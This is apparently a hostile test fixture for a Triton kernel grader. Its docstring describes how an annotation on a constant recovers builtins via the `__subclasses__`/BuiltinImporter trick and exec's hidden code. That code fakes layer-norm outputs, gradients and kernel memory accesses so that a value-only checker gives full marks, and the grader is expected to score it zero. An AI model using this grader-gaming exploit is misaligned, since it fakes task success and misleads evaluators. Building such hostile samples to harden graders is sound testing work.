"""Strategy: annotate a constant with an expression that runs Python where the kernels run, and have that write output and gradients and the accesses of a good kernel. Surface: the annotation of a constant, whose value alone was checked.

Class: checker. Unprotected: grader interpreted gives full marks. Level: 5.
Must get 0: the host writes each statement again from what it understood, and no annotation is among that except a few words.
"""

import torch
import triton
import triton.language as tl

CODE = """
# The file tests/submissions/hostile/forged_accesses.txt of this repository stands here.


def layer_norm(x, weight, bias, eps):
    names["nothing"][(2,)](1)
    note("load", x), note("load", weight), note("load", bias)
    tensors = memory(x), memory(weight), memory(bias)
    mean, variance = tensors[0].float().mean(1), tensors[0].float().var(1, correction=0)
    y = torch.nn.functional.layer_norm(tensors[0], x.shape[1:], *tensors[1:], eps)
    return made(y), made(mean), made(torch.rsqrt(variance + eps))


def layer_norm_backward(grad, x, weight, mean, rstd):
    names["nothing"][(2,)](1)
    note("load", grad), note("load", x), note("load", weight)
    leaves = [memory(each).clone().requires_grad_() for each in (x, weight, weight)]
    y = torch.nn.functional.layer_norm(leaves[0], x.shape[1:], *leaves[1:], 1e-5)
    return tuple(made(each) for each in torch.autograd.grad(y, leaves, memory(grad)))


names.update(layer_norm=layer_norm, layer_norm_backward=layer_norm_backward)
"""


@triton.jit
def nothing(n):
    pass


def layer_norm():
    nothing[(1,)](1)


def layer_norm_backward():
    nothing[(1,)](1)


A: [
    builtins.exec(
        builtins.compile(CODE, layer_norm.__code__.co_filename, "exec"),
        {"__builtins__": builtins, "names": layer_norm.__globals__},
    )
    for each in ().__class__.__base__.__subclasses__()
    if each.__name__ == "BuiltinImporter"
    for builtins in [each.load_module("builtins")]
] = 1
